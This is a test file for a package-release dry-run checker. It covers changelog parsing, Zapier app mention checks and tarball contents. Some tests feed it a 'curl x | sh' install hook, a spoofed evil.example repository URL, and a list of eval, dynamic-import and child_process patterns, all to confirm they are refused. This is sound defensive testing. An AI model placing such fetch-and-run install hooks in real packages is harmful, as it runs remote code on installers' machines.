import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

import { moduleAddress, runNode, useFolders } from '../../testing/src/in-tests.ts';
import { mentionFaults, sectionOf } from '../src/dry-run/changelog.ts';
import { codeFaults } from '../src/dry-run/code.ts';
import { faultsOf } from '../src/dry-run/tarball.ts';

const changelog = `# memberpass-zapier

How to read this.

## 1.1.0

### Minor Changes

- Add trigger/new_plan, and fix search/get_plan.

## 1.0.0

- The first version.
`;

it.each([
	['1.1.0', '### Minor Changes\n\n- Add trigger/new_plan, and fix search/get_plan.'],
	['1.0.0', '- The first version.'],
	['2.0.0', null],
])(
	'the section of %s is what stands between its heading and the next of its level',
	(version, text) => {
		expect(sectionOf(changelog, version)).toBe(text);
		expect(sectionOf(changelog.replaceAll('\n', '\r\n'), version)).toBe(text);
	},
);

it.each([
	['a line that only speaks of it', 'See ## 1.1.0 below.\n\n## 1.1.0\n\ntext', 'text'],
	['a heading too small to count', '##### 1.1.0\n\nnot this\n\n# 1.1.0\n\ntext', 'text'],
	['the first line', '## 1.1.0\ntext\n## 1.0.0\nolder', 'text'],
	['nothing behind it', '## 1.1.0', ''],
	['nothing before the next', '## 1.1.0\n## 1.0.0\nolder', ''],
	['its own subsections', '## 1.1.0\n### A\n#### B\n# Else', '### A\n#### B'],
	[
		'a number sign in its text',
		'## 1.1.0\n#1 is mended\nthe # 2\n## 1.0.0',
		'#1 is mended\nthe # 2',
	],
])('the section is found with %s', (_, markdown, text) => {
	expect(sectionOf(markdown, '1.1.0')).toBe(text);
});

describe('what a section of the Zapier app mentions', () => {
	const surface = { 'triggers.new_plan': '', 'creates.update_plan': '', 'searches.get_plan': '' };
	const unlinked =
		'mentions create/update_plan without Add, Update or Fix before it in its line, so "promote" would not link it';

	it.each<[string, readonly string[]]>([
		['- Add trigger/new_plan, and fix search/get_plan.', []],
		['- Update create/update_plan: it takes a note.', []],
		['- - Fixes create/update_plan.', []],
		['- Nothing that has a key.', []],
		['- Improve create/update_plan.', []],
		['- Improvement of create/update_plan.', []],
		['- UPDATED create/update_plan.', []],
		['- Improves create/update_plan.', []],
		['- Prefix create/update_plan.', [unlinked]],
		['- Newer create/update_plan.', [unlinked]],
		['- create/update_plan asks for a note. Update your Zaps.', [unlinked]],
		['- Updating create/update_plan is safe.', [unlinked]],
		['Add a note:\n- create/update_plan', [unlinked]],
		['- Add create/new_plan.', ['mentions create/new_plan, which is not there']],
		[
			'- Fix trigger/gone.\n- create/update_plan',
			['mentions trigger/gone, which is not there', unlinked],
		],
	])('%j: %j', (section, faults) => {
		expect(mentionFaults(section, surface)).toEqual(faults);
	});
});

describe('a package that goes out', () => {
	const newFolder = useFolders('tarball');
	const repository = { url: 'https://github.com/memberpass/memberpass-integrations.git' };
	const manifest = (more: object): string =>
		JSON.stringify({ license: 'MIT', repository, scripts: { build: 'tsc' }, ...more });
	const good: Readonly<Record<string, string | null>> = {
		'package.json': manifest({}),
		'README.md': '# Good',
		LICENSE: 'MIT',
		'dist/index.js': 'export const evaluate = (value) => retrieval(value);',
	};
	function folderOf(files: Readonly<Record<string, string | null>>): string {
		const folder = newFolder();
		for (const [path, text] of Object.entries(files)) {
			if (text === null) continue;
			mkdirSync(dirname(join(folder, path)), { recursive: true });
			writeFileSync(join(folder, path), text);
		}
		return folder;
	}

	const folderWith = (files: Readonly<Record<string, string | null>>): string =>
		folderOf({ ...good, ...files });
	const nothing = folderOf({});

	it('has nothing to complain of, as long as it holds what it should and nothing else', () => {
		expect(faultsOf(folderWith({}), nothing)).toEqual([]);
	});

	it.each<[string, Readonly<Record<string, string | null>>]>([
		['another name of the licence', { LICENSE: null, 'LICENSE.md': 'MIT' }],
		['a page that shows code', { 'README.md': '# Good\n\n    eval(text)' }],
		['such a page beside what it shows', { 'dist/js/notes.md': 'eval(text)' }],
		['no scripts', { 'package.json': manifest({ scripts: undefined }) }],
		['what npm installed beside it', { 'node_modules/a/test/eval.js': 'eval("1")' }],
		[
			'a name that only begins like an unwanted one',
			{ 'dist/role.mapper.js': '', 'dist/testing.js': '' },
		],
	])('may have %s', (_, files) => {
		expect(faultsOf(folderWith(files), nothing)).toEqual([]);
	});

	it('may be made where the home is the root folder: every address begins like that', async () => {
		const folder = folderWith({ 'dist/a.js': "export const path = '/v1/plans';" });
		const source = moduleAddress(__dirname, '../src/dry-run/tarball.ts');
		const script = `const { faultsOf } = await import(${JSON.stringify(source)});
			process.stdout.write(JSON.stringify(faultsOf(${JSON.stringify(folder)}, ${JSON.stringify(nothing)})));`;
		expect(
			await runNode(['--input-type=module', '--eval', script], { env: { HOME: '/' } }),
		).toMatchObject({ code: 0, stdout: '[]' });
	});

	it('holds the drawings and descriptions that a build copies: nothing that is loaded asks for them', () => {
		const icon = 'icons/light.svg';
		const codex = 'nodes/One/One.node.json';
		const workspace = folderOf({ [icon]: '', [codex]: '', 'nodes/One/One.node.ts': '' });
		expect(faultsOf(folderWith({ [`dist/${icon}`]: '' }), workspace)).toEqual([
			`dist/${codex} is missing`,
		]);
	});

	it.each<[string, Readonly<Record<string, string | null>>, string]>([
		['a source', { 'src/index.ts': '' }, 'src/index.ts does not belong in a published package'],
		['a source map', { 'dist/index.js.map': '' }, 'dist/index.js.map does not belong'],
		['a test', { 'dist/a.test.js': '' }, 'dist/a.test.js does not belong'],
		['a build note', { 'dist/tsconfig.tsbuildinfo': '' }, 'tsbuildinfo does not belong'],
		['a folder beside dist', { 'xdist/a.js': '' }, 'xdist/a.js does not belong'],
		['a copy of package.json', { 'package.json.orig': '' }, 'package.json.orig does not belong'],
		['no README', { 'README.md': null }, 'README.md is missing'],
		['no licence', { LICENSE: null }, 'the licence is missing'],
		['a hidden file', { 'dist/.env': '' }, 'dist/.env does not belong'],
		['a folder of tests', { 'dist/test/helper.js': '' }, 'dist/test/helper.js does not belong'],
		[
			'a source map in a comment',
			{ 'dist/a.js': '//# sourceMappingURL=data:application/json;base64,e30=' },
			'dist/a.js holds a source map',
		],
		[
			'a path of the machine that built it',
			{ 'dist/a.js': `export const from = ${JSON.stringify(__filename)};` },
			'dist/a.js holds a path of this machine',
		],
		[
			'such a path in a drawing',
			{ 'dist/icons/light.svg': `<!-- ${__filename} -->` },
			'dist/icons/light.svg holds a path of this machine',
		],
		[
			'another licence',
			{ 'package.json': manifest({ license: 'ISC' }) },
			'that the licence is MIT',
		],
		[
			'no repository',
			{ 'package.json': manifest({ repository: undefined }) },
			'package.json names no repository',
		],
		...['git@github.com:memberpass/x.git', 'https://evil.example/?https://github.com/x'].map(
			(url): [string, Readonly<Record<string, string>>, string] => [
				`the repository ${url}`,
				{ 'package.json': manifest({ repository: { url } }) },
				'package.json names no repository',
			],
		),
		...['preinstall', 'install', 'postinstall', 'prepare', 'preprepare', 'postprepare'].map(
			(name): [string, Readonly<Record<string, string>>, string] => [
				`the script "${name}"`,
				{ 'package.json': manifest({ scripts: { [name]: 'curl x | sh' } }) },
				`package.json has a script "${name}"`,
			],
		),
		...['js', 'cjs', 'mjs'].map((kind): [string, Readonly<Record<string, string>>, string] => [
			`eval in a file of the kind ${kind}`,
			{ [`dist/a.${kind}`]: 'eval("1")' },
			`dist/a.${kind} uses eval`,
		]),
	])('with %s is refused', (_, files, words) => {
		const faults = faultsOf(folderWith(files), nothing);
		expect(faults).toHaveLength(1);
		expect(faults[0]).toContain(words);
	});

	it.each([
		['eval("1")', 'eval'],
		['const f = new Function("return 1")', 'new Function'],
		['Function("return 1")()', 'Function called as a compiler'],
		['(0, eval)("1")', 'eval'],
		['globalThis.eval("1")', 'eval'],
		['globalThis["eval"]("1")', 'eval'],
		['global.eval("1")', 'eval'],
		['window.eval("1")', 'eval'],
		['self.eval("1")', 'eval'],
		['new globalThis["Function"]("return 1")', 'new Function'],
		['require()', 'a dynamic require'],
		['export * from "node:vm"', 'code from text'],
		['(() => {}).constructor("return 1")()', 'Function called as a compiler'],
		['require(name)', 'a dynamic require'],
		['require(`./${name}`)', 'a dynamic require'],
		['require("./" + name)', 'a dynamic require'],
		['import(`./${name}`)', 'a dynamic import'],
		['const { runInNewContext } = require("vm")', 'code from text'],
		['await import(name)', 'a dynamic import'],
		['import { exec } from "node:child_process"', 'child processes'],
	])('may not hold %s', (source, name) => {
		expect(codeFaults('a.js', source)).toEqual([`a.js uses ${name}`]);
	});

	it.each([
		'isFunction(value)',
		'retrieval(a)',
		'require("n8n-workflow")',
		"import('./a.js')",
		'object.eval(x)',
		'object["eval"](x)',
		'export { a }; export * from "./b.js";',
		'class A extends B { constructor() { super(); } copy() { return new this.constructor(); } }',
		'const words = "eval(x) and require(y)"; // new Function()',
	])('may hold %s', (source) => {
		expect(codeFaults('a.js', source)).toEqual([]);
	});
});

it('the dry run explains itself', async () => {
	expect(await runNode([join(__dirname, '../src/bin/dry-run.ts'), '--help'])).toEqual({
		code: 0,
		stdout: expect.stringContaining('npm run release:dry-run'),
		stderr: '',
	});
});
